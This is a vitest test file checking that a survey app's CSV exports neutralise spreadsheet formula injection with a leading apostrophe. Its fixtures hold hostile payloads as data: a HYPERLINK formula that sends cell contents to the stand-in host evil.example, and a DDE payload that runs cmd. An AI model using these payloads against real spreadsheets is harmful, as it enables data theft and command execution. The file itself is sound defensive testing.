/**
 * Respondents control open answers and, through the survey link (`?tier=…`), hidden fields. A
 * spreadsheet opening a download would run any cell starting with = + - @ (or a tab or carriage
 * return) as a formula, so every CSV download defuses them with a leading apostrophe, while real
 * negative numbers stay numbers. One test per download: responses.csv, tables.csv (with its
 * cross-tab), crosstab.csv, and a share link's crosstab.csv (signed out).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { Agent, makeTestApp, signedInAgents } from '../support/api';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS = '+1+1';
const MINUS_FORMULA = '-2+3';
const TAB = '\t=1+2';

const definition = {
  title: { en: 'Store visit' },
  hiddenFields: ['tier'],
  pages: [
    {
      id: 'p1',
      questions: [
        {
          id: 'sat',
          type: 'rating',
          role: 'overall-satisfaction',
          scale: { min: 1, max: 5 },
          text: { en: 'Satisfied?' },
        },
        { id: 'spend', type: 'number', text: { en: 'Change in spend' } },
        { id: 'comment', type: 'text', role: 'open-feedback', text: { en: 'Comment' } },
      ],
    },
  ],
};

/** Tier (from the link), comment and spend of each respondent. */
const RESPONDENTS = [
  { tier: HYPERLINK, comment: DDE, spend: -5, sat: 4 },
  { tier: PLUS, comment: MINUS_FORMULA, spend: -0.25, sat: 2 },
  { tier: 'gold', comment: TAB, spend: 3, sat: 5 },
  { tier: 'gold', comment: '-7', spend: 1, sat: 3 },
];

/** What a cell must read once defused: the text with a leading apostrophe. */
const defused = (s: string) => `'${s}`;

let t: ReturnType<typeof makeTestApp>;
let researcher: Agent;
let viewer: Agent;
let surveyId: string;

const parse = (csv: string) => {
  const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
};
/** No cell of the file would run as a formula: each starts with a safe character or is a plain negative number. */
const noFormula = (cells: string[][]) =>
  cells.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(c));

beforeAll(async () => {
  t = makeTestApp();
  ({ researcher, viewer } = await signedInAgents(t.app));
  const created = (await researcher.post('/api/surveys', { definition })).body;
  surveyId = created.id;
  const versionId = (await researcher.post(`/api/surveys/${surveyId}/publish`)).body.versions[0].id;
  const respondent = new Agent(t.app);
  for (const [i, r] of RESPONDENTS.entries()) {
    const res = await respondent.post(`/api/public/s/${created.slug}/responses`, {
      clientId: `injection-${i}`,
      versionId,
      complete: true,
      hidden: { tier: r.tier },
      answers: { sat: r.sat, spend: r.spend, comment: r.comment },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    t.clock.advance(60_000);
  }
});
afterAll(() => t.cleanup());

describe('CSV downloads defuse formulas', () => {
  it('responses.csv: hidden fields and open answers get an apostrophe, negative numbers stay numbers', async () => {
    for (const labels of ['0', '1']) {
      const res = await researcher.get(`/api/surveys/${surveyId}/export/responses.csv?labels=${labels}`);
      expect(res.status).toBe(200);
      const [head, ...rows] = parse(res.body as string);
      const col = (name: string) => rows.map((r) => r[head.indexOf(name)]);
      expect(col('tier')).toEqual([defused(HYPERLINK), defused(PLUS), 'gold', 'gold']);
      expect(col('v_comment')).toEqual([defused(DDE), defused(MINUS_FORMULA), defused(TAB), '-7']);
      expect(col('spend')).toEqual(['-5', '-0.25', '3', '1']);
      expect(noFormula(rows)).toEqual([]);
    }
  });

  it("tables.csv, with a cross-tab whose columns are the hidden field's values", async () => {
    const res = await viewer.get(`/api/surveys/${surveyId}/export/tables.csv?rows=sat&columns=hidden:tier`);
    expect(res.status).toBe(200);
    const rows = parse(res.body as string);
    // The cross-tab's base per column names each tier, as its label (fourth column: measure).
    const labels = rows.filter((r) => r[0] === 'crosstab' && r[1] === 'hidden:tier').map((r) => r[2]);
    expect(labels).toEqual(expect.arrayContaining([defused(HYPERLINK), defused(PLUS), 'gold']));
    expect(noFormula(rows)).toEqual([]);
  });

  it('crosstab.csv, for the researcher and the viewer', async () => {
    for (const agent of [researcher, viewer]) {
      const res = await agent.get(`/api/surveys/${surveyId}/export/crosstab.csv?rows=sat&columns=hidden:tier`);
      expect(res.status).toBe(200);
      const rows = parse(res.body as string);
      // Column heads: each tier with its letter (in the order the cross-tab sorts them), then Total.
      expect(rows[0].slice(2)).toEqual([defused(`${PLUS} (A)`), defused(`${HYPERLINK} (B)`), 'gold (C)', 'Total']);
      expect(noFormula(rows)).toEqual([]);
    }
  });

  it("a share link's crosstab.csv, downloaded signed out", async () => {
    const share = await researcher.post(`/api/surveys/${surveyId}/shares`, { lang: 'en' });
    expect(share.status).toBe(201);
    const res = await new Agent(t.app).get(
      `/api/public/reports/${share.body.token}/export/crosstab.csv?rows=hidden:tier&columns=sat`,
    );
    expect(res.status).toBe(200);
    const rows = parse(res.body as string);
    expect(rows.map((r) => r[0])).toEqual(expect.arrayContaining([defused(HYPERLINK), defused(PLUS), 'gold']));
    expect(noFormula(rows)).toEqual([]);
  });
});
